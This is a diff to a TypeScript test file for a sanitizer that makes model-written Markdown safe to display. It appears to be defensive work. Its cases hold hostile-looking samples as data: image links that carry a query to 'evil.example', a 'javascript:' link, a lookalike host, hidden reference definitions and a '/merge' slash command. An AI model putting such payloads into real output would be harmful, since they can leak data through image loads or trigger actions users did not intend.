@@ -1,6 +1,7 @@
 import * as fc from 'fast-check';
 import { describe, expect, test } from 'vitest';
 import { sanitizeOutgoing } from '../../src/sanitize/outgoing.js';
+import { attribute, isElement, type PageNode, parsePage } from '../../src/sanitize/page.js';
 
 const modelMarkdown = (text: string) =>
   sanitizeOutgoing(text, {
@@ -12,6 +13,14 @@ const tick = '`';
 
 describe('Markdown of a model keeps its form', () => {
   test.each([
+    '1. Install:\n   ```sh\n   npm ci\n   ```\n   Then wait.\n2. Test:\n   ```sh\n   npm test <T>\n   ```\n3. Done',
+    '- a\n  - b:\n\n    ```js\n    c(@d)\n    ```\n\n    after code',
+    '> ```\n> <x>\n> ```\n\n> - ```js\n>   <y>\n>   ```',
+    'Run:\n\n    npm ci <T>\n\n    @user ![x](y)\n\nand wait.',
+    '- a\n\n      indented <x>\n\n  b',
+    'See <https://github.com/octo/demo>, <https://example.org/a?b=1>, <me@example.org>.',
+    'A[^1] and b[^note-2].\n\n[^1]: Note.\n\n[^note-2]: See `<x>`.',
+    'a\n\n<br>\n\nb',
     '# Title\n\nSome **bold** and *soft* text, ~~gone~~.',
     '- [x] one\n- [ ] two\n  1. three',
     '> quoted\n\n| a | b |\n| --- | :-: |\n| 1 | 2 |',
@@ -50,11 +59,7 @@ describe('Markdown of a model cannot hide, load or act', () => {
     ['an entity', '&lt;b&gt; &#64;user &amp', '&lt;b&gt; &amp;#64;user &amp'],
     ['an image', '![logo](https://evil.example/?q=data)', '&#33;[logo] (`https://evil.example/?q=data`)'],
     ['an image without a text', '![](https://evil.example/x)', '&#33;[image] (`https://evil.example/x`)'],
-    [
-      'an image by reference',
-      '![logo][1]\n\n[1]: https://evil.example',
-      '&#33;[logo][1]\n\n[1]&#58; `https://evil.example`',
-    ],
+    ['an image by reference', '![logo][1]\n\n[1]: https://evil.example', '&#33;[logo] (`https://evil.example`)'],
     ['a comment as a definition', '[//]: # (hidden)', '[//]&#58; # (hidden)'],
     ['a definition in a quote', '> [a]: /b "hidden"', '> [a]&#58; /b "hidden"'],
     ['a link to a script', '[x](javascript:alert`1`)', '[x]&#40;javascript:alert`1`)'],
@@ -143,7 +148,8 @@ describe('Markdown of a model cannot hide, load or act', () => {
     ['a slash command', '/merge now', '\\/merge now'],
     ['a slash command in a quote', '> /merge', '> \\/merge'],
     ['an unclosed backtick', 'a ` b <x>', 'a &#96; b &lt;x>'],
-    ['code over two lines', 'a ` b\n<x> ` c', 'a &#96; b\n&lt;x> &#96; c'],
+    ['code over two lines', 'a ` b\n<x> ` c', 'a ` b <x> ` c'],
+    ['code that a block ends', '- a ` b\n- <x> ` c', '- a &#96; b\n- &lt;x> &#96; c'],
     ['an escaped backtick', '\\`<x>`', '&#96;&lt;x>&#96;'],
     ['a pipe in code of a table', '| `a | <x>` |', '| <code>a &#124; &#60;x&#62;</code> |'],
     ['code glued to an address', 'http://a.b/`<x>`', 'http://a.b/<code>&#60;x&#62;</code>'],
@@ -151,8 +157,21 @@ describe('Markdown of a model cannot hide, load or act', () => {
     ['a fence in a fence', '````\n```\n<x>\n````', '````\n```\n<x>\n````'],
     ['a fence of tildes', '~~~ js\n```\n~~~', '````js\n```\n````'],
     ['a fence of tildes with a backtick', '~~~`\n<x>', '```\n<x>\n```'],
-    ['a fence in a list', '1. a\n   ```js\n   b\n     c\n   ```\n2. d', '1. a\n```js\nb\n  c\n```\n2. d'],
-    ['a fence in a quote', '> ```\n> <x>\n> ```', '> &#96;&#96;&#96;\n> &lt;x>\n> &#96;&#96;&#96;'],
+    ['a fence in a list that is not closed', '- a\n  ~~~\n  <x>\n\nb <x>', '- a\n  ```\n  <x>\n  ```\n\nb &lt;x>'],
+    ['a fence that is a code span', 'a\n    ```\n    <x>\n    ```', 'a\n    ``` <x> ```'],
+    ['a fence in a quote that ends with it', '> ```\n> <x>\n<x>', '> ```\n> <x>\n> ```\n&lt;x>'],
+    ['a definition that nothing uses', '[a]: /b\n\nc', '[a]&#58; /b\n\nc'],
+    ['a footnote that nothing uses', 'a\n\n[^1]: hidden', 'a\n\n[^1]&#58; hidden'],
+    ['a footnote that only another one uses', 'a\n\n[^1]: b [^2]\n\n[^2]: c', 'a\n\n[^1]&#58; b [^2]\n\n[^2]&#58; c'],
+    ['a footnote of a name that is taken', 'a[^1]\n\n[^1]: b\n\n[^1]: c', 'a[^1]\n\n[^1]: b\n\n[^1]&#58; c'],
+    [
+      'a footnote with a long label',
+      `a[^${'x'.repeat(41)}]\n\n[^${'x'.repeat(41)}]: b`,
+      `a[^${'x'.repeat(41)}]\n\n[^${'x'.repeat(41)}]&#58; b`,
+    ],
+    ['a break above code', 'a\n\n<br>\n`<img src=x>`', 'a\n\n<br>\n\n`<img src=x>`'],
+    ['an autolink to another host', '<https://github.com.evil.example>', '&lt;`https://github.com.evil.example`>'],
+    ['an autolink with an entity', '<https://github.com/&#64;user>', '&lt;https://github.com/&amp;#64;user>'],
     ['a fence with a hostile language', '```js"><x\na\n```', '```js\na\n```'],
     ['a formula with a command', 'a $\\color{red}{b}$ c', 'a &#36;\\color{red}{b}&#36; c'],
     ['a formula of several lines', '$$\na\n\\alpha\n$$', '&#36;&#36;\na\n\\alpha\n&#36;&#36;'],
@@ -221,20 +240,35 @@ describe('Markdown of a model cannot hide, load or act', () => {
     '"',
     ' ',
     '```js',
+    '1. ',
+    '   ',
+    '\n\n',
+    '[^1]',
+    '[1]',
+    '[1]: ',
+    '<br>',
     '$',
     '\\x',
   );
 
-  test('leaves no tag, image, mention or unpaired backtick outside code', () => {
+  test('its page has no element, address or mention but harmless ones outside of code', () => {
+    const harmless =
+      /^(?:p|h[1-6]|ul|ol|li|blockquote|pre|code|em|strong|del|a|br|hr|table|thead|tbody|tr|th|td|input|kbd|sub|sup|details|summary|section)$/;
+    const check = (node: PageNode): void => {
+      if ('value' in node) expect(node.value).not.toMatch(/(?<![a-z0-9])@user/);
+      if (!isElement(node)) return;
+      expect(node.tagName).toMatch(harmless);
+      if (node.tagName === 'a')
+        expect(attribute(node, 'href')).toMatch(/^(?:https?:\/\/a\/|#|mailto:|(?![a-z]+:|\/\/))/i);
+      if (node.tagName !== 'code') node.childNodes.forEach(check);
+    };
     fc.assert(
       fc.property(fc.array(sign, { maxLength: 20 }), (signs) => {
         const shown = modelMarkdown(signs.join(''));
         expect(modelMarkdown(shown)).toBe(shown);
-        const outside = shown.replace(/^(`{3,})[^`\n]*\n[^]*?^\1$/gm, '·').replace(/<code>[^<]*<\/code>/g, '·');
-        const prose = outside.replace(/(?<!`)(`+)(?!`)(?:[^`\n]|(?!\1(?!`))`+)+?(?<!`)\1(?!`)/g, '·');
-        expect(prose).not.toMatch(/[<`]|(?<!\\)!\[|(?<!\\)\]:|(?<![a-z0-9])@user/);
+        parsePage(shown).childNodes.forEach(check);
       }),
-      { numRuns: 5000 },
+      { numRuns: 800 },
     );
   });
 
@@ -264,6 +298,25 @@ describe('Markdown of a model cannot hide, load or act', () => {
   ])('a long line of %j is processed in linear time', (unit) => {
     expect(modelMarkdown(`x${unit.repeat(300_000 / unit.length)}`)).toMatch(/^x/);
   });
+});
+
+test.each<readonly [string, string, string]>([
+  [
+    'a link',
+    '[the docs][d] and [d]\n\n[d]: https://github.com/octo/demo "t"',
+    '[the docs](https://github.com/octo/demo) and [d](https://github.com/octo/demo)',
+  ],
+  ['one in brackets', '[b](<https://github.com/octo/demo/a b>)', '[b](https://github.com/octo/demo/a%20b)'],
+  ['to another host', '[x][]\n\n[X]: https://evil.example', '[x] (`https://evil.example`)'],
+  [
+    'a pipe in code of a table',
+    '| x |\n| --- |\n| `string \\| null` |',
+    '| x |\n| --- |\n| <code>string &#124; null</code> |',
+  ],
+  ['a break in a paragraph', 'a\n<br>\nb', 'a <br>\nb'],
+])('a reference or a mark that reads the same in another form: %s', (_name, text, expected) => {
+  expect(modelMarkdown(text)).toBe(expected);
+  expect(modelMarkdown(expected)).toBe(expected);
 });
 
 describe('what was changed', () => {
